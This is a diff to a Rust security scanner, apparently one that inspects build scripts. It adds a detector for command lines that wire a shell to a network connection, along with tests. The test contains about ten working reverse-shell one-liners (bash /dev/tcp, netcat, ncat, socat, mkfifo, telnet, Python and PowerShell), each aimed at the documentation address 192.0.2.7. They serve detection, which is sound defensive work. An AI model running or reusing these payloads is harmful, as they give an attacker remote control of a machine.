@@ -15,13 +15,15 @@ use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 use super::signal::{HostClass, SecretKind, Sensitivity, SignalKind};
 use super::vocabulary::{
     AUTHORIZED_KEYS_FILES, AUTOMATION_LOCATIONS, BROWSER_MINER_CALLS, CHMOD_EXECUTABLE,
-    CLIPBOARD_PROGRAMS, DOWNLOADERS, ENVIRONMENT_FILES, ENVIRONMENT_PROGRAMS, EXFILTRATION_HOSTS,
-    FIND_NAME_TESTS, HOME_ROOTS, HOST_IDENTITY_FILES, INTERPRETERS, IP_LOOKUP_HOSTS, LAUNCHERS,
-    LAUNCHER_VALUE_OPTIONS, MINER_FLAGS, MINING_POOLS, PERSISTENCE_LOCATIONS, PIPES_TO_SHELL,
-    POWERSHELL_CLIPBOARD, RESERVED_DOMAINS, RUN_BY_PATH_PREFIXES, SCHEDULER_COMMANDS,
-    SENSITIVE_PATHS_HIGH, SENSITIVE_PATHS_MEDIUM, SHELLS, SHELL_DESTRUCTION, SHELL_HOME,
-    SHELL_HOST_COMMANDS, SHELL_NETWORK_PRIMITIVES, SSH_PUBLIC_KEY_PREFIXES, WELL_KNOWN_HOSTS,
-    WELL_KNOWN_IPS, WORKING_DIRECTORY_GLOBS,
+    CLIPBOARD_PROGRAMS, CONNECTOR_EXEC_FLAGS, DOWNLOADERS, ENVIRONMENT_FILES, ENVIRONMENT_PROGRAMS,
+    EXFILTRATION_HOSTS, FIND_NAME_TESTS, HOME_ROOTS, HOST_IDENTITY_FILES, INTERPRETERS,
+    IP_LOOKUP_HOSTS, LAUNCHERS, LAUNCHER_VALUE_OPTIONS, MINER_FLAGS, MINING_POOLS,
+    PERSISTENCE_LOCATIONS, PIPES_TO_SHELL, POWERSHELL_CLIPBOARD, RESERVED_DOMAINS,
+    RUN_BY_PATH_PREFIXES, SCHEDULER_COMMANDS, SCRIPT_SOCKETS, SENSITIVE_PATHS_HIGH,
+    SENSITIVE_PATHS_MEDIUM, SHELLS, SHELL_CONNECTORS, SHELL_DESTRUCTION, SHELL_HOME,
+    SHELL_HOST_COMMANDS, SHELL_NETWORK_PRIMITIVES, SOCAT_PROGRAM_ADDRESSES, SOCKET_TO_SHELL_CALLS,
+    SSH_PUBLIC_KEY_PREFIXES, STDIN_FROM_DESCRIPTOR, WELL_KNOWN_HOSTS, WELL_KNOWN_IPS,
+    WORKING_DIRECTORY_GLOBS,
 };
 
 #[derive(Debug, Clone, Copy)]
@@ -529,6 +531,84 @@ pub fn pipes_into_shell(lower: &str) -> bool {
         })
 }
 
+/// The program a word of a command line names: its last path component, without `.exe`.
+fn program_name(word: &str) -> &str {
+    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
+    name.strip_suffix(".exe").unwrap_or(name)
+}
+
+/// How a command line joins a shell to a network connection, if it does: what reverse and bind
+/// shells are made of, whatever the address. Each way needs a shell named in the line and a
+/// connection opened in it, and the shell must take the connection as its input — a download
+/// over `/dev/tcp/` read by `cat <&3` does not.
+fn shell_over_network(lower: &str, words: &[&str]) -> Option<&'static str> {
+    let is_shell = |w: &str| SHELLS.contains(&program_name(w));
+    // PowerShell's own: a `TcpClient` whose stream is read into `Invoke-Expression`.
+    if lower.contains("net.sockets.tcpclient")
+        && (words.contains(&"iex") || lower.contains("invoke-expression"))
+    {
+        return Some("a PowerShell connection whose input is run");
+    }
+    if !words.iter().any(|w| is_shell(w)) {
+        return None;
+    }
+    let is_connector = |w: &str| SHELL_CONNECTORS.contains(&program_name(w));
+    if lower.contains("/dev/tcp/") || lower.contains("/dev/udp/") {
+        let interactive = words.windows(2).any(|w| is_shell(w[0]) && w[1] == "-i");
+        // `sh <&196 >&196`: the descriptor opened on the connection read by the shell itself.
+        let shell_reads_descriptor = lower.match_indices("<&").any(|(at, _)| {
+            lower[..at]
+                .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '(' | '\''))
+                .rfind(|w| !w.is_empty())
+                .is_some_and(is_shell)
+        });
+        if interactive
+            || shell_reads_descriptor
+            || STDIN_FROM_DESCRIPTOR.iter().any(|r| lower.contains(r))
+        {
+            return Some("a shell's input and output redirected to `/dev/tcp/`");
+        }
+    }
+    let connects = words.iter().any(|w| is_connector(w));
+    if connects {
+        // The flag or address given to the network tool itself (not `bash -c 'nc -l 9000'`).
+        let runs_program = lower.split([';', '|', '&', '\n']).any(|command| {
+            let mut after_tool = command
+                .split_whitespace()
+                .map(|w| w.trim_matches(['\'', '"']))
+                .skip_while(|w| !is_connector(w));
+            after_tool.next().is_some()
+                && after_tool.any(|w| {
+                    CONNECTOR_EXEC_FLAGS.contains(&w)
+                        || SOCAT_PROGRAM_ADDRESSES.iter().any(|a| w.starts_with(a))
+                })
+        });
+        if runs_program {
+            return Some("a network tool running a shell for its connection");
+        }
+        if lower.contains("mkfifo") || lower.contains("mknod") {
+            return Some("a shell and a connection joined through a named pipe");
+        }
+        // `telnet host 1 | /bin/sh | telnet host 2`: what arrives is run, and its output sent.
+        let pipeline: Vec<Option<&str>> = lower
+            .split('|')
+            .map(|part| part.split_whitespace().next())
+            .collect();
+        let fed_from_connection = pipeline.windows(2).any(
+            |pair| matches!(pair, [Some(from), Some(to)] if is_connector(from) && is_shell(to)),
+        );
+        if fed_from_connection {
+            return Some("what a connection sends piped into a shell");
+        }
+    }
+    if SCRIPT_SOCKETS.iter().any(|s| lower.contains(s))
+        && SOCKET_TO_SHELL_CALLS.iter().any(|c| lower.contains(c))
+    {
+        return Some("a script handing a socket to a shell");
+    }
+    None
+}
+
 /// What a shell command line does: downloads, piping into a shell, making files executable,
 /// reverse shells, persistence, and every literal indicator. Used for the scripts a build script or
 /// library hands to `sh -c`, `cmd /C` or `powershell -Command`.
@@ -560,6 +640,9 @@ pub fn shell_signals(script: &str) -> Vec<SignalKind> {
         out.push(SignalKind::Network {
             how: "a shell network primitive".into(),
         });
+    }
+    if let Some(how) = shell_over_network(&lower, &words) {
+        out.push(SignalKind::ShellOverNetwork { how: how.into() });
     }
     if let Some(command) = SHELL_DESTRUCTION.iter().find(|c| lower.contains(*c)) {
         out.push(SignalKind::Destroy {
@@ -694,6 +777,42 @@ mod tests {
 
     fn has(signals: &[SignalKind], f: impl Fn(&SignalKind) -> bool) -> bool {
         signals.iter().any(f)
+    }
+
+    #[test]
+    fn command_lines_that_join_a_shell_to_a_connection() {
+        let joins = |line: &str| {
+            has(&shell_signals(line), |k| {
+                matches!(k, SignalKind::ShellOverNetwork { .. })
+            })
+        };
+        for line in [
+            "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
+            "0<&196;exec 196<>/dev/tcp/192.0.2.7/4444; sh <&196 >&196 2>&196",
+            "/bin/sh -i > /dev/udp/192.0.2.7/53 0<&1 2>&1",
+            "nc -e /bin/sh 192.0.2.7 4444",
+            "ncat 192.0.2.7 4444 --sh-exec 'bash -li'",
+            "socat tcp-connect:192.0.2.7:4444 exec:'bash -li',pty,stderr",
+            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f",
+            "telnet 192.0.2.7 4444 | /bin/bash | telnet 192.0.2.7 4445",
+            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"192.0.2.7\",4444));\
+             os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
+            "$c=New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);$s=$c.GetStream();\
+             while(($i=$s.Read($b,0,$b.Length)) -ne 0){$o=(iex $d 2>&1|Out-String)}",
+        ] {
+            assert!(joins(line), "{line}");
+        }
+        // A download over `/dev/tcp/`, a port check, a shell that only runs a script, netcat
+        // listening for a file: a connection, but no shell reading from it.
+        for line in [
+            "exec 3<>/dev/tcp/example.com/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3",
+            "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo up",
+            "sh -c 'nc -z 127.0.0.1 6379'",
+            "bash -c 'nc -l 9000 > upload.tar'",
+            "sh ./configure --prefix=/usr && make",
+        ] {
+            assert!(!joins(line), "{line}");
+        }
     }
 
     #[test]
